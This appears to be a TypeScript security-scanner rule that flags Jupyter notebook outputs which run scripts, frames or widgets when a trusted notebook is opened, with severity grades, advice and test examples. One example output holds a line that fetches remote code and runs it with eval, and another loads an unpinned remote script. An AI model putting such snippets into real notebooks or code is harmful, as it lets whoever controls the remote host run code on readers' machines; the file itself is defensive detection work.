/** Stored outputs of a notebook that do something when they are shown. */

import { type ActivePart, activeParts } from '../notebook/active.ts';
import { type Confidence, type Crossing, notebook, type Rule, type Severity } from './rule.ts';
import { CODE_INJECTION, NO_INTEGRITY_CHECK, UNAUTHORIZED_SOFTWARE, UNTRUSTED_SPHERE } from './standards.ts';

const GRADES: Readonly<Record<ActivePart['kind'], readonly [Severity, Confidence]>> = {
  'remote-script': ['warning', 'high'],
  'pinned-script': ['information', 'high'],
  'loading-script': ['warning', 'medium'],
  script: ['warning', 'medium'],
  'usual-script': ['hint', 'low'],
  frame: ['warning', 'medium'],
  'usual-frame': ['hint', 'high'],
  'remote-widget': ['warning', 'high'],
  widget: ['information', 'medium'],
};

export const activeOutput: Rule = {
  id: 'active-output',
  title: 'A stored output runs when the notebook is trusted',
  family: 'notebooks',
  why: 'Outputs are part of the file, and no run is needed: whoever opens a trusted notebook runs the scripts in them, with the rights of the session, which can execute code in the kernel. Nobody reads outputs in a review, and what they load from elsewhere can change afterwards.',
  advice:
    'Clear the output before you share the notebook, and make it again by running the cell. Where it has to stay, store a picture or plain text, and load libraries at an exact version with an integrity hash.',
  severity: 'warning',
  standards: [CODE_INJECTION, NO_INTEGRITY_CHECK, UNTRUSTED_SPHERE, UNAUTHORIZED_SOFTWARE],

  check: () => [],

  *checkStored(stored) {
    for (const part of activeParts(stored)) yield crossingOf(part);
  },

  examples: [
    notebook`
      { "cells": [{ "cell_type": "code", "source": ["chart.show()"], "outputs": [{
        "output_type": "display_data",
        "data": { "text/html": ["<script src='https://cdn.example.com/chart/latest/chart.js'></script>"] }
                                 ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ active-output
      }] }] }
    `,
    notebook`
      { "cells": [{ "cell_type": "code", "source": ["show()"], "outputs": [{
        "output_type": "display_data",
        "data": { "application/javascript": ["fetch('https://example.com/x').then(r => r.text()).then(eval)"] }
                                              ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ active-output
      }] }] }
    `,
    notebook`
      { "cells": [{ "cell_type": "code", "source": ["table"], "outputs": [{
        "output_type": "execute_result",
        "data": { "text/html": ["<table><tr><td>1</td></tr></table>"], "text/plain": ["<script src='x'>"] }
      }] }] }
    `,
  ],
};

function crossingOf({ kind, start, end, name }: ActivePart): Crossing {
  const [severity, confidence] = GRADES[kind];
  return { start, end, severity, confidence, message: `${said(kind, name)} ${ADVICE}` };
}

const ADVICE = 'Clear it before you share the notebook, and run the cell again where it is needed.';

function said(kind: ActivePart['kind'], name: string): string {
  switch (kind) {
    case 'remote-script':
      return `This output loads and runs a script from ${name} whenever the trusted notebook is shown, and what stands there can change at any time.`;
    case 'pinned-script':
      return `This output loads and runs a script from ${name} whenever the trusted notebook is shown, without a hash that it must have.`;
    case 'loading-script':
      return `This output holds a script that ${name} whenever the trusted notebook is shown, and nobody reviews outputs.`;
    case 'script':
    case 'usual-script':
      return 'This output holds a script that runs whenever the trusted notebook is shown, and nobody reviews outputs.';
    case 'frame':
    case 'usual-frame':
      return `This output shows a page from ${name} inside of the notebook, which learns who reads it and can change at any time.`;
    case 'remote-widget':
      return `A stored widget loads and runs a module from ${name} whenever the trusted notebook is shown.`;
    case 'widget':
      return `A stored widget runs ${name} whenever the trusted notebook is shown, and nobody reviews the state of widgets.`;
  }
}
